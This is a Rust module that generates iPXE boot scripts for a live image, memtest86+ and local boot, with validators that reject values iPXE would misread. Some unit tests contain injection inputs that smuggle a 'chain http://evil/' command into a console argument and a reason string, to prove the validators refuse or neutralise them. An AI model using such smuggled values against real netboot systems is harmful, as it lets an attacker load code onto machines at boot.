//! The iPXE scripts that the server answers `/boot/MAC.ipxe` with. Pure text.
//!
//! Values end up in a language without quoting: iPXE splits at white space, expands `${…}` and ends a line at `#`.
//! So only plain words are let in, and everything else is an error rather than an escape.

use std::collections::BTreeSet;
use std::fmt::Write as _;

/// The longest command line an x86 kernel reads (2048 with the final zero).
const LONGEST_CMDLINE: usize = 2047;
/// How often a fetch that failed is tried again, five seconds apart.
const RETRIES: u32 = 12;

/// What to boot.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BootScript {
    /// Where the kernel is.
    pub kernel_url: String,
    /// Initial RAM disks, in the order in which the kernel unpacks them.
    pub initrds: Vec<Initrd>,
    /// The kernel's command line: `(key, Some(value))` or a bare `(key, None)`.
    pub cmdline: Vec<(String, Option<String>)>,
}

/// One initial RAM disk.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Initrd {
    /// The name under which UEFI kernels find it; unique.
    pub name: String,
    /// Where it is.
    pub url: String,
}

/// A value that iPXE or the kernel would not read as it is meant.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ScriptError {
    /// Not a plain word.
    #[error("`{value}` cannot be used as {what}: {problem}")]
    BadValue {
        /// What it was for.
        what: &'static str,
        /// The value, shortened.
        value: String,
        /// What is wrong with it.
        problem: &'static str,
    },
    /// The command line is longer than a kernel reads; the rest would be ignored silently.
    #[error(
        "the kernel command line has {length} characters, and a kernel reads {LONGEST_CMDLINE}: leave arguments out"
    )]
    TooLong {
        /// Its length, with everything that is added here.
        length: usize,
    },
}

/// The script that boots the live image.
///
/// `initrd=NAME` for each RAM disk goes first (UEFI kernels load nothing without it, BIOS ones do not mind), and
/// `BOOTIF=01-MAC` last, so that the image knows which port it came by.
///
/// # Errors
/// [`ScriptError`] for a value that is not a plain word, and for a command line that is too long.
pub fn boot_script(script: &BootScript) -> Result<String, ScriptError> {
    let kernel = url("a kernel URL", &script.kernel_url)?;
    let mut names = BTreeSet::new();
    let mut words = Vec::new();
    let mut fetches = String::new();
    for Initrd { name, url: address } in &script.initrds {
        word("an initrd name", name)?;
        if name.contains(['/', ',', '=']) || name.starts_with('-') {
            return bad("an initrd name", name, "use letters, digits, dots and hyphens");
        }
        if !names.insert(name) {
            return bad("an initrd name", name, "it is there twice");
        }
        let address = url("an initrd URL", address)?;
        words.push(format!("initrd={name}"));
        let _ = writeln!(fetches, "initrd --name {name} {address} || goto failed");
    }
    for (key, value) in &script.cmdline {
        words.push(argument(key, value.as_deref())?);
    }
    // As long as what iPXE puts there: a MAC of six pairs.
    let length = words.iter().map(|word| word.len() + 1).sum::<usize>() + "BOOTIF=01-aa-bb-cc-dd-ee-ff".len();
    if length > LONGEST_CMDLINE {
        return Err(ScriptError::TooLong { length });
    }
    words.push("BOOTIF=01-${netX/mac:hexhyp}".to_owned());
    Ok(format!(
        "#!ipxe\n\
         echo Assay: booting the live image\n\
         set tries:int32 0\n\
         :again\n\
         imgfree\n\
         kernel {kernel} {} || goto failed\n\
         {fetches}\
         boot || goto failed\n\
         :failed\n\
         inc tries\n\
         iseq ${{tries}} {RETRIES} && goto local ||\n\
         echo Assay: the live image could not be fetched, trying again in 5 seconds\n\
         sleep 5\n\
         goto again\n\
         :local\n\
         echo Assay: giving up, booting locally\n\
         exit 1\n",
        words.join(" ")
    ))
}

/// What stands in for the live image when memory is tested without an operating system.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MemtestScript {
    /// Where memtest86+ for BIOS is.
    pub bios_url: String,
    /// Where memtest86+ for UEFI is.
    pub uefi_url: String,
    /// The serial console that it draws on: `ttyS0,115200`.
    pub console: String,
}

/// The script that boots memtest86+. It leaves the module's labels alone (`nosm`): reading them over SMBus hangs some
/// boards, and the inventory has them.
///
/// # Errors
/// [`ScriptError`] for a value that is not a plain word.
pub fn memtest_script(script: &MemtestScript) -> Result<String, ScriptError> {
    let bios = url("a kernel URL", &script.bios_url)?;
    let uefi = url("a kernel URL", &script.uefi_url)?;
    let console = argument("console", Some(&script.console))?;
    Ok(format!(
        "#!ipxe\n\
         echo Assay: booting memtest86+\n\
         set tries:int32 0\n\
         :again\n\
         imgfree\n\
         iseq ${{platform}} efi && goto uefi ||\n\
         kernel {bios} {console} nosm || goto failed\n\
         boot || goto failed\n\
         :uefi\n\
         kernel {uefi} {console} nosm || goto failed\n\
         boot || goto failed\n\
         :failed\n\
         inc tries\n\
         iseq ${{tries}} {RETRIES} && goto local ||\n\
         echo Assay: memtest86+ could not be fetched, trying again in 5 seconds\n\
         sleep 5\n\
         goto again\n\
         :local\n\
         echo Assay: giving up, booting locally\n\
         exit 1\n"
    ))
}

/// The script that sends a machine on to its own disk, telling whoever watches the screen why.
///
/// The exit status is 1 on purpose: after a success, UEFI firmware opens its menu and waits for a key; after a
/// failure, it tries the next boot option. BIOS firmware goes on either way.
pub fn local_boot_script(reason: &str) -> String {
    // Words of ours and of operators: what iPXE would interpret is dropped, the rest is kept readable.
    let plain: String = reason
        .chars()
        .map(|c| if c.is_ascii_graphic() && !"$#|&`\\".contains(c) { c } else { ' ' })
        .take(200)
        .collect();
    let plain = plain.split_ascii_whitespace().collect::<Vec<_>>().join(" ");
    format!("#!ipxe\necho Assay: {plain}\necho Assay: booting locally\nexit 1\n")
}

fn argument(key: &str, value: Option<&str>) -> Result<String, ScriptError> {
    const WHAT: &str = "a kernel argument";
    word(WHAT, key)?;
    if key.contains('=') {
        return bad(WHAT, key, "put what follows `=` into the value");
    }
    if matches!(key, "initrd" | "BOOTIF") {
        return bad(WHAT, key, "it is set by the boot script itself");
    }
    let Some(value) = value else {
        return Ok(key.to_owned());
    };
    // An empty value is common (`systemd.mask=`); otherwise the same rules hold.
    if !value.is_empty() {
        plain("the value of a kernel argument", value)?;
    }
    Ok(format!("{key}={value}"))
}

fn url<'a>(what: &'static str, value: &'a str) -> Result<&'a str, ScriptError> {
    word(what, value)?;
    if !value.starts_with("http://") && !value.starts_with("https://") {
        return bad(what, value, "it must begin with http:// or https://");
    }
    Ok(value)
}

/// A word of its own, as iPXE reads it.
fn word(what: &'static str, value: &str) -> Result<(), ScriptError> {
    if value.is_empty() {
        return bad(what, value, "it is empty");
    }
    if value.starts_with('#') || matches!(value, "||" | "&&") {
        return bad(what, value, "iPXE would take it for its own syntax");
    }
    plain(what, value)
}

fn plain(what: &'static str, value: &str) -> Result<(), ScriptError> {
    if !value.chars().all(|c| c.is_ascii_graphic()) {
        return bad(what, value, "white space, control characters and non-ASCII characters are not possible");
    }
    if value.contains("${") {
        return bad(what, value, "iPXE would expand the ${…} in it");
    }
    Ok(())
}

fn bad<T>(what: &'static str, value: &str, problem: &'static str) -> Result<T, ScriptError> {
    Err(ScriptError::BadValue { what, value: value.chars().take(80).collect(), problem })
}

#[cfg(test)]
mod tests {
    use super::{
        BootScript, Initrd, MemtestScript, ScriptError, boot_script, local_boot_script, memtest_script,
    };

    fn script() -> BootScript {
        let initrd =
            |name: &str| Initrd { name: name.to_owned(), url: format!("http://10.77.0.1:8080/live/{name}") };
        BootScript {
            kernel_url: "http://10.77.0.1:8080/live/vmlinuz".to_owned(),
            initrds: vec![initrd("base.cpio"), initrd("nvidia.cpio")],
            cmdline: vec![
                ("console".to_owned(), Some("ttyS0,115200".to_owned())),
                ("assay.token".to_owned(), Some("abc".to_owned())),
                ("quiet".to_owned(), None),
                ("systemd.mask".to_owned(), Some(String::new())),
            ],
        }
    }

    #[test]
    fn the_script_that_boots_the_live_image() {
        insta::assert_snapshot!(boot_script(&script()).expect("plain words"), @r##"
        #!ipxe
        echo Assay: booting the live image
        set tries:int32 0
        :again
        imgfree
        kernel http://10.77.0.1:8080/live/vmlinuz initrd=base.cpio initrd=nvidia.cpio console=ttyS0,115200 assay.token=abc quiet systemd.mask= BOOTIF=01-${netX/mac:hexhyp} || goto failed
        initrd --name base.cpio http://10.77.0.1:8080/live/base.cpio || goto failed
        initrd --name nvidia.cpio http://10.77.0.1:8080/live/nvidia.cpio || goto failed
        boot || goto failed
        :failed
        inc tries
        iseq ${tries} 12 && goto local ||
        echo Assay: the live image could not be fetched, trying again in 5 seconds
        sleep 5
        goto again
        :local
        echo Assay: giving up, booting locally
        exit 1
        "##);
    }

    #[test]
    fn the_script_that_boots_a_memory_test() {
        let script = |console: &str| MemtestScript {
            bios_url: "http://10.77.0.1:8080/boot/memtest/memtest86+x64.bin".to_owned(),
            uefi_url: "http://10.77.0.1:8080/boot/memtest/memtest86+x64.efi".to_owned(),
            console: console.to_owned(),
        };
        insta::assert_snapshot!(memtest_script(&script("ttyS1,57600")).expect("plain words"), @r##"
        #!ipxe
        echo Assay: booting memtest86+
        set tries:int32 0
        :again
        imgfree
        iseq ${platform} efi && goto uefi ||
        kernel http://10.77.0.1:8080/boot/memtest/memtest86+x64.bin console=ttyS1,57600 nosm || goto failed
        boot || goto failed
        :uefi
        kernel http://10.77.0.1:8080/boot/memtest/memtest86+x64.efi console=ttyS1,57600 nosm || goto failed
        boot || goto failed
        :failed
        inc tries
        iseq ${tries} 12 && goto local ||
        echo Assay: memtest86+ could not be fetched, trying again in 5 seconds
        sleep 5
        goto again
        :local
        echo Assay: giving up, booting locally
        exit 1
        "##);
        assert!(memtest_script(&script("ttyS0 || chain http://evil/")).is_err());
    }

    #[test]
    fn the_script_that_boots_locally_cannot_be_written_by_the_reason() {
        insta::assert_snapshot!(local_boot_script("host \"web1\" has no open run\nchain http://evil/ || ${x} \u{1b}[2J"), @r##"
        #!ipxe
        echo Assay: host "web1" has no open run chain http://evil/ {x} [2J
        echo Assay: booting locally
        exit 1
        "##);
    }

    #[test]
    fn what_ipxe_would_misread_is_refused() {
        let refused = |change: fn(&mut BootScript)| {
            let mut script = script();
            change(&mut script);
            boot_script(&script).expect_err("refused").to_string()
        };
        let messages = [
            refused(|s| s.kernel_url = "http://a/b\nexit".to_owned()),
            refused(|s| s.kernel_url = "tftp://a/b".to_owned()),
            refused(|s| s.kernel_url = String::new()),
            refused(|s| s.initrds[1].name = "base.cpio".to_owned()),
            refused(|s| s.initrds[0].name = "a/b".to_owned()),
            refused(|s| s.initrds[0].url = "http://a/${net0/ip}".to_owned()),
            refused(|s| s.cmdline.push(("a".to_owned(), Some("b c".to_owned())))),
            refused(|s| s.cmdline.push(("a=b".to_owned(), None))),
            refused(|s| s.cmdline.push(("||".to_owned(), None))),
            refused(|s| s.cmdline.push(("#x".to_owned(), None))),
            refused(|s| s.cmdline.push(("BOOTIF".to_owned(), Some("01".to_owned())))),
            refused(|s| s.cmdline.push(("é".to_owned(), None))),
        ];
        insta::assert_snapshot!(messages.join("\n"), @r##"
        `http://a/b
        exit` cannot be used as a kernel URL: white space, control characters and non-ASCII characters are not possible
        `tftp://a/b` cannot be used as a kernel URL: it must begin with http:// or https://
        `` cannot be used as a kernel URL: it is empty
        `base.cpio` cannot be used as an initrd name: it is there twice
        `a/b` cannot be used as an initrd name: use letters, digits, dots and hyphens
        `http://a/${net0/ip}` cannot be used as an initrd URL: iPXE would expand the ${…} in it
        `b c` cannot be used as the value of a kernel argument: white space, control characters and non-ASCII characters are not possible
        `a=b` cannot be used as a kernel argument: put what follows `=` into the value
        `||` cannot be used as a kernel argument: iPXE would take it for its own syntax
        `#x` cannot be used as a kernel argument: iPXE would take it for its own syntax
        `BOOTIF` cannot be used as a kernel argument: it is set by the boot script itself
        `é` cannot be used as a kernel argument: white space, control characters and non-ASCII characters are not possible
        "##);
    }

    #[test]
    fn a_command_line_that_a_kernel_would_cut_is_refused_at_the_byte() {
        let with = |length: usize| {
            let mut script = script();
            script.cmdline = vec![("x".repeat(length), None)];
            boot_script(&script)
        };
        let overhead = "initrd=base.cpio initrd=nvidia.cpio ".len() + " BOOTIF=01-aa-bb-cc-dd-ee-ff".len();
        assert!(with(2047 - overhead).is_ok());
        assert_eq!(with(2048 - overhead), Err(ScriptError::TooLong { length: 2048 }));
    }
}
